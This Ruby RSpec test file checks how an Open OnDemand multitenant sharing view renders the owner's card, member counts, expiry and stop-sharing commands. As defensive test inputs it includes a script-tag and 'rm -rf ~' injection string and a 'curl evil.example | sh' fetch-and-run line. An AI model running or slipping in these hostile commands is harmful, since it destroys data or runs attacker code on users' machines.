# frozen_string_literal: true

require "ostruct"
require "cgi"
require "redcarpet"
require "shellwords"

# The owner's own card on a service app's session: info.html.erb rendered as OOD renders it (ERB with the
# session's binding, in every state: OSC/ondemand v4.2.3 app/models/batch_connect/session.rb
# render_info_view), view.html.erb as OOD renders a running session's connection (ERB with connection.yml
# as the binding), each then through Markdown with no HTML filtering.
RSpec.describe "the owner's own card on a service app" do
  MD = Redcarpet::Markdown.new(Redcarpet::Render::HTML, autolink: true, tables: true, fenced_code_blocks: true, no_intra_emphasis: true)
  SERVICE_APPS = %w[multitenant-llm multitenant-database multitenant-dashboard multitenant-content].freeze
  KEY = "0123456789abcdef0123456789abcdef"

  # What OOD's BatchConnect::Session gives the info view: public job_id and cluster_id, a private job_name.
  FakeSession = Struct.new(:job_id, :cluster_id) do
    def page(erb) = ERB.new(erb, trim_mode: "-").result(binding)

    private

    def job_name = "ondemand/sys/dashboard/sys/multitenant-llm"
  end

  def me = Etc.getpwuid(Process.uid).name

  def share(id: "42", user: me, group: "class101", allow: "", expires_at: nil, method: "card", app: "Ollama_API", conn: {})
    { "info" => { "user" => user, "cluster" => "hpc", "ood_cluster" => "hpc-multitenant", "group" => group, "expires_at" => expires_at },
      "accounting" => { "mtu" => allow, "mta" => app, "mtm" => method },
      "connection" => { "host" => "node1", "port" => "4000", "ollama_url" => "http://node1:4000", "api_key" => KEY }.merge(conn).merge("jobid" => id, "mt_appname" => app) }
  end

  def info(app, job_id: "42", shares: {})
    allow(MultiTenant).to receive(:specs).and_return(shares)
    MD.render(FakeSession.new(job_id, "hpc").page(File.read(File.join(ROOT, "ood/apps", app, "info.html.erb"))))
  end

  def owner(**args) = MD.render(MultiTenant::View.owner(job_id: "42", cluster_id: "hpc", job_name: "ondemand/sys/dashboard/sys/x", **args))

  SERVICE_APPS.each do |app|
    it "#{app}: the info view shows the share from the owner's own discovery, with the command that stops sharing" do
      html = info(app, shares: { "42" => share })
      expect(html).to include("Shared now.", "Ollama_API", "group class101: every member", "the job ends")
      expect(html).to include("unshare --job-id 42 --name ondemand/sys/dashboard/sys/multitenant-llm")
    end

    it "#{app}: the info view says plainly when members see nothing, and names no other user's job of that id" do
      html = info(app, shares: { "42" => share(user: "someone-else"), "7" => share(id: "7") })
      expect(html).to include("Not shared now: members see nothing.")
      expect(html).not_to include("Shared now.")
    end

    it "#{app}: has a view, so a running session never says OOD's \"the view.html.erb file is missing\"" do
      expect(File).to exist(File.join(ROOT, "ood/apps", app, "view.html.erb"))
    end
  end

  it "counts the members who see the share now: the group's listed members, or the allow-listed members, never the owner" do
    members = ->(_) { OpenStruct.new(mem: [me, "ann", "bob", "cy"], gid: 4242) }
    expect(owner(shares: { "42" => share }, group_members: members)).to match(%r{Members who see it now</th><td>3 })
    limited = owner(shares: { "42" => share(allow: "ann,zed,#{me}") }, group_members: members)
    expect(limited).to match(%r{Members who see it now</th><td>1 }) # zed is no member; the owner is not counted
    expect(limited).to include("shown only to ann, zed, #{me}", "not a lock")
    expect(owner(shares: { "42" => share }, group_members: ->(_) {})).to include("unknown (group class101 is not known here)")
  end

  it "counts an allow-list entry given as a uid (discovery lets that member see it) as that member" do
    daemon = Etc.getpwnam("daemon")
    members = ->(_) { OpenStruct.new(mem: [me, daemon.name], gid: 4242) }
    expect(owner(shares: { "42" => share(allow: daemon.uid.to_s) }, group_members: members)).to match(%r{Members who see it now</th><td>1 })
    expect(owner(shares: { "42" => share(allow: "#{daemon.uid},#{daemon.name}") }, group_members: members)).to match(%r{Members who see it now</th><td>1 })
  end

  it "says until when, and that nobody sees an expired share" do
    soon = Time.now.to_i + 3600
    expect(owner(shares: { "42" => share(expires_at: soon) }, group_members: ->(_) { [] })).to include(Time.at(soon).localtime.strftime("%Y-%m-%d %H:%M"))
    past = owner(shares: { "42" => share(expires_at: Time.now.to_i - 5) }, group_members: ->(_) { %w[ann bob] })
    expect(past).to include("expired: members no longer see it")
    expect(past).to match(%r{Members who see it now</th><td>0 })
  end

  it "says which way members get it: a card, or a form choice only" do
    expect(owner(shares: { "42" => share(method: "form") }, group_members: ->(_) { [] })).to include("a choice in other apps' forms only")
  end

  it "with several clusters, matches the session's cluster and stops sharing with scontrol -M on the share's own cluster" do
    shares = { "42@hpc" => share, "42@beta" => share(app: "Other").tap { |s| s["info"].merge!("cluster" => "beta", "ood_cluster" => "beta-multitenant") } }
    html = MD.render(MultiTenant::View.owner(job_id: "42", cluster_id: "beta", job_name: "n", shares: shares, group_members: ->(_) { [] }))
    expect(html).to include("Other", "scontrol -M beta update JobId=42 JobName=n")
    expect(html).not_to include("Ollama_API")
  end

  it "renders hostile share values as text, and quotes the stop command's name so a paste runs nothing else" do
    evil = %(<script>alert(1)</script>'; rm -rf ~ #)
    html = MD.render(MultiTenant::View.owner(job_id: "42", cluster_id: "hpc", job_name: evil, group_members: ->(_) { [] },
                                             shares: { "42" => share(app: evil, group: evil, allow: evil) }))
    expect(html).not_to include("<script>")
    command = CGI.unescapeHTML(html[%r{<pre><code>([^<]*unshare[^<]*)</code></pre>}, 1])
    expect(Shellwords.split(command)).to eq(["mtshare", "unshare", "--job-id", "42", "--name", evil])
  end

  it "says when this dashboard could not look at the queue, instead of claiming the share ended" do
    allow(MultiTenant).to receive(:errors).and_return(["cluster hpc: squeue: no answer within 10 s"])
    expect(owner(shares: {})).to include("Members may not see this job now", "squeue: no answer within 10 s")
  end

  it "does not pin another job's problem on this one: a line about some other job is not why this job is unseen" do
    # Any user can make the first error line: a job of theirs named with a "|" that does not parse, or a
    # share whose host is a text of their choosing.
    allow(MultiTenant).to receive(:errors).and_return(['job 99 (mallory): host "run: curl evil.example | sh" is not a node of job 99'])
    html = owner(shares: {})
    expect(html).to include("Not shared now: members see nothing.")
    expect(html).not_to include("mallory", "evil.example")
    allow(MultiTenant).to receive(:errors).and_return(['job 99 (mallory): bad seal', "job 42 (#{me}): host \"x\" is not a node of job 42"])
    expect(owner(shares: {})).to include("Members may not see this job now", "job 42 (#{me}): host")
  end

  describe "view.html.erb: the running service for the owner's own use, from the job's connection.yml" do
    def view(app, conn) = MD.render(ERB.new(File.read(File.join(ROOT, "ood/apps", app, "view.html.erb"))).result(OpenStruct.new(conn).instance_eval { binding }))

    it "multitenant-llm: the base URL and key, as members' cards show them" do
      html = view("multitenant-llm", "host" => "node1", "port" => "4000", "password" => nil, "ollama_url" => "http://node1:4000", "ollama_model" => "m", "api_key" => KEY)
      expect(html).to include("For your own use", "http://node1:4000/v1", KEY)
      expect(html).not_to include("password")
    end

    it "multitenant-dashboard: Open posts the key to the gate's login through the node proxy" do
      html = view("multitenant-dashboard", "host" => "node1", "port" => "4000", "url" => "http://node1:4000/", "api_key" => KEY)
      expect(html).to include(%(action="/rnode/node1/4000/?multitenant-login"), %(value="#{KEY}"))
    end

    it "multitenant-database: the login, password included" do
      html = view("multitenant-database", "host" => "node1", "port" => "5432", "db_engine" => "postgresql", "db_name" => "msba", "db_user" => "msba_user", "db_password" => "S3cretPw")
      expect(html).to include("psql -h node1 -p 5432 -U msba_user msba", "S3cretPw")
    end

    it "every service app lists in conn_params what its view shows" do
      { "multitenant-llm" => %w[ollama_url ollama_model api_key], "multitenant-dashboard" => %w[url api_key],
        "multitenant-database" => %w[db_engine db_name db_user db_password] }.each do |app, keys|
        submit = YAML.safe_load(ERB.new(File.read(File.join(ROOT, "ood/apps", app, "submit.yml.erb"))).result)
        expect(submit.dig("batch_connect", "conn_params")).to include(*keys), app
      end
    end
  end
end
